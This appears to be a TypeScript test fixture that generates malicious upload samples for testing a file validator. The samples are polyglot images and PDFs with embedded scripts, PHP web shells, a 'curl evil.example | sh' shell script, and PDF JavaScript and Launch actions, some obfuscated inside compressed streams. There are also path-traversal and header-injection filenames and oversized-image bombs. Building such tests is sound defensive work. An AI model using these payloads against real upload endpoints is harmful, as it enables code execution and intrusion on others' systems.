import { constants, crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

export type HostileFile = {
  readonly what: string
  readonly kind: 'images' | 'documents'
  readonly content: Buffer
  readonly name: string
  readonly type: string
}

const script = '<script>alert(document.domain)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
const names = [
  '../../../etc/passwd',
  '..\\..\\windows\\system32\\a.png',
  'a.png\u0000.html',
  'a.html.png',
  'a.php;.png',
  'a.png/..',
  '/absolute.png',
  'CON',
  '.htaccess',
  'a"; filename="b.html',
  '<img src=x onerror=alert(1)>.png',
  'a\r\nSet-Cookie: x=1.png',
  '\u202egnp.exe',
  'x'.repeat(5_000),
]

/** More than sixty files that could be sent to do harm: each with its name and declared type. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const blank = sharp({ create: { width: 8, height: 8, channels: 3, background: 'white' } })
  const [png, jpeg, webp] = await Promise.all([
    blank.clone().png().toBuffer(),
    blank.clone().jpeg().toBuffer(),
    blank.clone().webp().toBuffer(),
  ])
  const pictures = { png, jpeg, webp }
  const pdf = (body: string) =>
    Buffer.from(`%PDF-1.7\n1 0 obj<</Type/Catalog ${body}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`, 'latin1')
  const image = (what: string, content: Buffer | string, name = 'a.png', type = 'image/png'): HostileFile => ({
    what,
    kind: 'images',
    content: Buffer.from(content as string),
    name,
    type,
  })
  const document = (what: string, content: Buffer | string, name = 'a.pdf'): HostileFile => ({
    what,
    kind: 'documents',
    content: Buffer.from(content as string),
    name,
    type: 'application/pdf',
  })
  return [
    ...otherKinds().flatMap(([what, content]) => [
      image(`${what} as png`, content),
      document(`${what} as pdf`, content),
    ]),
    ...Object.entries(pictures).flatMap(([format, whole]) => [
      image(`${format} with a script behind it`, Buffer.concat([whole, Buffer.from(script)])),
      image(`${format} with a page behind it`, Buffer.concat([whole, Buffer.from(`<html>${script}</html>`)])),
      image(`${format} with an archive behind it`, Buffer.concat([whole, Buffer.from('PK\u0003\u0004evil.exe')])),
      image(`${format} cut off`, whole.subarray(0, Math.floor(whole.length / 2))),
      image(`${format}'s first bytes alone`, whole.subarray(0, 12)),
      image(`${format} as text/html`, whole, 'a.html', 'text/html'),
      document(`${format} as a document`, whole),
    ]),
    image('png with a script in its comment', withComment(png, script)),
    image('png with php in its comment', withComment(png, '<?php system($_GET[0]); ?>')),
    image('png with a wrong checksum', broken(png)),
    image(
      'jpeg with a script in its metadata',
      await blank
        .clone()
        .withExif({ IFD0: { ImageDescription: script } })
        .jpeg()
        .toBuffer(),
    ),
    image(
      'webp with a wrong length',
      Buffer.concat([webp.subarray(0, 4), Buffer.from([255, 255, 255, 127]), webp.subarray(8)]),
    ),
    image('png of no points', sized(0, 0)),
    image('png larger than any screen', sized(65_000, 65_000)),
    image('png of negative size', sized(0x80000001, 4)),
    image(
      'jpeg and script in one',
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(`/*${script}*/`)]),
    ),
    ...names.map((name) => image(`a picture called ${JSON.stringify(name.slice(0, 30))}`, png, name)),
    document('pdf with JavaScript', pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')),
    document('pdf with JavaScript in codes', pdf('/OpenAction<</S/J#61vaScript/#4aS(app.alert(1))>>')),
    document('pdf that launches a program', pdf('/OpenAction<</S/Launch/F(cmd.exe)>>')),
    document('pdf that carries a file', pdf('/Names<</EmbeddedFiles 2 0 R>>')),
    document('pdf with a form that sends', pdf('/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>')),
    document('pdf with a page in it', pdf(`(<html>${script}</html>)`)),
    document('pdf behind a page', `<html>${script}</html>\n%PDF-1.7\n%%EOF`),
    document('pdf without an end', '%PDF-1.7\n1 0 obj<<>>endobj\n'),
    document(
      'pdf with an archive behind it',
      Buffer.concat([pdf(''), Buffer.from('PK\u0003\u0004evil.exe'), Buffer.alloc(2_000)]),
    ),
    ...packedScripts().map(([what, content]) => document(what, content)),
    document('pdf of no version', '%PDF-<script>alert(1)</script>\n%%EOF'),
  ]
}

/** Documents whose script is not found in their plain bytes. */
export function packedScripts(): [string, Buffer][] {
  const objects = `3 0 4 40 ${'<</S/JavaScript/JS(app.alert(1))>>'.padEnd(40)}<</Type/Catalog/OpenAction 3 0 R>>`
  const coded = objects.replaceAll('/JavaScript', '/J#61vaScript').replaceAll('/JS(', '/#4aS(')
  const packed = deflateSync(Buffer.from(objects))
  const said = '/Type/ObjStm/N 2/First 9/Filter/FlateDecode'
  const damaged = Buffer.from(deflateSync(Buffer.from(objects)))
  damaged.set([0, 0, 0, 0], damaged.length - 4)
  const whole = deflateSync(Buffer.from(objects), { finishFlush: constants.Z_FULL_FLUSH })
  const broke = Buffer.concat([whole, Buffer.alloc(40, 0xff)])
  const stored = deflateSync(Buffer.from(`3 0 4 40 (endstream\nendobj) ${objects}`), { level: 0 })
  const hex = Buffer.from(`${packed.toString('hex')}>`)
  const predicted = deflateSync(Buffer.from([...objects].map((letter) => `\u0000${letter}`).join('')))
  const encrypted = '>>endstream trailer<</Encrypt 9 0 R/Root 4 0 R>>\n2 0 obj<<'
  return [
    ['pdf with a script in a stream of objects', packedPdf(said, packed)],
    ['pdf with a script in codes in a stream of objects', packedPdf(said, deflateSync(Buffer.from(coded)))],
    ['pdf with a stream of objects that is not called one', packedPdf('/N 2/Filter/FlateDecode', packed)],
    ['pdf with a stream of objects called an image', packedPdf('/Subtype/Image/Filter/Fl', packed)],
    [
      'pdf with a stream of objects under coded names',
      packedPdf('/Type/O#62jStm/N 2/Fi#72st 9/Filter/FlateDecode', packed),
    ],
    ['pdf with a stream of objects whose sum is wrong', packedPdf(said, damaged)],
    ['pdf with a stream of objects and damage after them', packedPdf(said, broke)],
    ['pdf with a stream of objects that is cut off', packedPdf(said, packed.subarray(0, -6))],
    ['pdf with a stream of objects that says it ends', packedPdf(said, stored)],
    [
      'pdf with a stream of objects in hexadecimal',
      packedPdf('/Type/ObjStm/First 9/Filter[/ASCIIHexDecode/FlateDecode]', hex),
    ],
    [
      'pdf with a stream of objects behind a predictor',
      packedPdf(`${said}/DecodeParms<</Predictor 12/Columns 1>>`, predicted),
    ],
    ['pdf with a stream of objects whose filter is elsewhere', packedPdf('/Type/ObjStm/First 9/Filter 7 0 R', hex)],
    ['pdf with an encrypted stream of objects', packedPdf(`${encrypted}${said}`, Buffer.from('not to be read'))],
    ['pdf with a stream of objects larger than memory', packedPdf(said, deflateSync(Buffer.alloc(80_000_000, '1 0 ')))],
  ]
}

export function packedPdf(dictionary: string, stream: Buffer): Buffer {
  const head = Buffer.from(`%PDF-1.7\n1 0 obj<<${dictionary}/Length ${stream.length}>>stream\r\n`, 'latin1')
  return Buffer.concat([head, stream, Buffer.from('\r\nendstream endobj\nstartxref\n0\n%%EOF\n')])
}

function otherKinds(): [string, Buffer | string][] {
  return [
    ['a page', `<!doctype html><html><body>${script}</body></html>`],
    ['a drawing with a script', svg],
    ['a drawing behind a mark', `\ufeff<?xml version="1.0"?>${svg}`],
    ['a script', 'alert(1)//javascript'],
    ['php', '<?php echo shell_exec($_GET["c"]); ?>'],
    ['a shell script', '#!/bin/sh\ncurl evil.example | sh\n'],
    ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
    ['an archive', 'PK\u0003\u0004 a.html'],
    ['a GIF with a script', `GIF89a/*${script}*/=1`],
    ['a TIFF', Buffer.concat([Buffer.from('II*\0'), Buffer.alloc(60)])],
    ['a BMP', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)])],
    ['a HEIF', Buffer.concat([Buffer.alloc(4), Buffer.from('ftypheic'), Buffer.alloc(60)])],
    ['PostScript', '%!PS-Adobe-3.0 (javascript) run'],
    ['nothing', ''],
  ]
}

const withComment = (png: Buffer, text: string) =>
  Buffer.concat([png.subarray(0, 33), chunk('tEXt', Buffer.from(`Comment\0${text}`)), png.subarray(33)])

function broken(png: Buffer): Buffer {
  const copy = Buffer.from(png)
  copy[copy.length - 20] = (copy[copy.length - 20] ?? 0) ^ 0xff
  return copy
}

/** A PNG whose header declares this size. */
function sized(width: number, height: number): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([8, 2, 0, 0, 0], 8)
  const mark = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([
    mark,
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(1_000))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

export function chunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), content])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(content.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}
